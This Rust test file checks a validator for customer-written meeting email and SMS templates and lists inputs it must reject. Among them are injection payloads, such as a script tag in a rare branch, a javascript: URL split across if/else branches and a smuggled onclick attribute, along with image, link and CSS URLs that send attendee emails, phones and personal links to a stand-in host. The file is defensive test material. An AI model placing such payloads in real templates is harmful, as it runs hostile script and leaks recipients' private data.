//! What no sample meeting shows: a text is read in every way that it can come out.

use super::*;

fn refusal(part: Part, text: &str) -> String {
    match check(part, text) {
        Ok(()) => panic!("accepted: {text}"),
        Err(error) => error.to_string(),
    }
}

#[test]
fn a_rare_branch_is_held_against_the_rules() {
    for (part, text, expected) in [
        (
            Part::EmailBody,
            "<p>a</p>\n{% if meeting.title == 'rare' %}<script>x</script>{% endif %}",
            "line 2: the tag <script> cannot be used",
        ),
        (
            Part::EmailBody,
            "a{% if meeting.title == 'x' %}b{% elif meeting.title == 'y' %}<p>{% else %}c{% endif %}",
            "is never closed",
        ),
        (
            Part::EmailBody,
            "{% if meeting.title == 'x' %}<p>{% endif %}a{% if meeting.title == 'y' %}</p>{% endif %}",
            "</p> closes nothing",
        ),
        (
            Part::EmailBody,
            "<a href=\"{% if meeting.title == 'x' %}java{% else %}https://x.example/{% endif %}script:x\">a</a>",
            "is not an absolute address",
        ),
        (
            Part::EmailBody,
            "<a href=\"{% if meeting.title == 'x' %}https://x.example\" onclick=\"{% endif %}\">a</a>",
            "the attribute onclick",
        ),
        (
            Part::Subject,
            "{% if meeting.title != 'rare' %}x{% endif %}",
            "comes out empty",
        ),
        (
            Part::Sms,
            "{% if meeting.title == 'rare' %} {% else %}x{% endif %}",
            "comes out empty",
        ),
        (
            Part::Sms,
            "Reply {% if meeting.title == 'a very rare title' %}STOP{% endif %} to us",
            "asks to reply STOP",
        ),
        (
            Part::Sms,
            &format!(
                "a{{% if meeting.title == 'rare' %}}{}{{% endif %}}",
                "x".repeat(900)
            ),
            "the settings allow 4",
        ),
        (Part::Sms, "{{ link|upper }}", "leads nowhere"),
        // What counts as nothing, and what as something, is known of texts only.
        (
            Part::EmailBody,
            "{% if organizer.name|default(0) %}a{% else %}b{% endif %}",
            "line 1: 0 cannot be used",
        ),
        (
            Part::EmailBody,
            "a\n{% if false == '' %}b{% endif %}",
            "line 2: false cannot be used",
        ),
        (Part::Sms, "a {{ 5|trim }}", "5 cannot be used"),
        (Part::Sms, "a {{ none }}", "none cannot be used"),
    ] {
        let refused = refusal(part, text);
        assert!(refused.contains(expected), "{text}: {refused}");
    }
    let many: String = (0..20)
        .map(|i| format!("{{% if meeting.title == '{i}' %}}a{{% endif %}}b"))
        .collect();
    assert!(refusal(Part::EmailBody, &many).contains("too many {% if %}"));
    let same = "{% if meeting.location %}a{% endif %}b".repeat(40);
    assert_eq!(
        check(Part::EmailBody, &same),
        Ok(()),
        "one condition, two paths"
    );
    let split = "{% if meeting.location %}<p>{% endif %}a{% if meeting.location %}</p>{% endif %}";
    assert_eq!(check(Part::EmailBody, split), Ok(()));
}

#[test]
fn what_is_the_customers_alone_goes_to_nobody_else() {
    for text in [
        "<img src='https://other.example/p.png?u={{ link }}&e={{ attendee.email }}'>",
        "<img src=\"{{ link }}\">",
        "<img src=\"https://other.example/{{ meeting.date }}\">",
        "<a href=\"https://other.example/?u={{ link }}\">a</a>",
        "<a href=\"https://other.example/?e={{ attendee.email|default('x') }}\">a</a>",
        "<a href=\"https://other.example/?a={{ meeting.location }}\">a</a>",
        "<a href=\"https://{{ attendee.name }}.example/\">a</a>",
        "<a href=\"mailto:x@example.com?body={{ link }}\">a</a>",
        "<a href=\"{{ meeting.video_url|default('https://other.example/?') }}{{ link }}\">a</a>",
        "{% if meeting.title == 'x' %}<a href=\"https://other.example/?{{ link }}\">a</a>{% endif %}b",
        "<p>https://other.example/?u={{ attendee.phone }}</p>",
        "<p style=\"background:url(https://other.example/?{{ link }})\">a</p>",
        "{{ 'https://other.example/?u=' }}{{ link }}",
        "{{ 'see https://other.example/?u= ' }}{{ link }}",
        "{{ meeting.description|default('https://other.example/?') }}{{ attendee.email }}",
        "{{ meeting.video_url }}?u={{ link }}",
        "<img src=\"https://example.com/a.png\" alt=\"https://other.example/?u={{ link }}\">",
        "other.example/?u={{ link }}",
        "OTHER.example:443{{ attendee.phone }}",
        "{{ attendee.first_name }}.other.example/x",
        "https://other.example/?u=<b>{{ link }}</b>",
        "{{ attendee.email }}://x",
    ] {
        assert!(check(Part::EmailBody, text).is_err(), "{text}");
    }
    let image = "<p>\n<img src='https://other.example/p.png?u={{ link }}'></p>";
    assert!(refusal(Part::EmailBody, image).starts_with("line 2: the address of an image"));
    assert!(refusal(Part::Sms, "https://other.example/?u={{ link }}").contains("somebody else's"));
    for text in [
        "<a href=\"{{ link }}\">a</a>",
        "<a href=\"{{ link }}&action=accept\">a</a>",
        "<a href=\"{{ meeting.video_url|default(link) }}\">a</a>",
        "<a href=\"{{ meeting.map_url }}\">{{ meeting.location }}</a>",
        "<a href=\"mailto:{{ organizer.email }}\">{{ attendee.email }}</a>",
        "<a href=\"https://example.com/faq?d={{ meeting.date }}\">a</a>",
        "<p>See https://example.com/faq or {{ link }}</p>",
        "<img src=\"https://example.com/logo.png\" alt=\"{{ business.name }}\">",
        "<p>Hi {{ attendee.first_name }}.</p><p>Where: {{ meeting.location }}/{{ meeting.title }}</p>",
        "{{ meeting.map_url }} ({{ meeting.location }})",
        "({{ link }}), or https://example.com/faq?",
    ] {
        assert_eq!(check(Part::EmailBody, text), Ok(()), "{text}");
    }
}
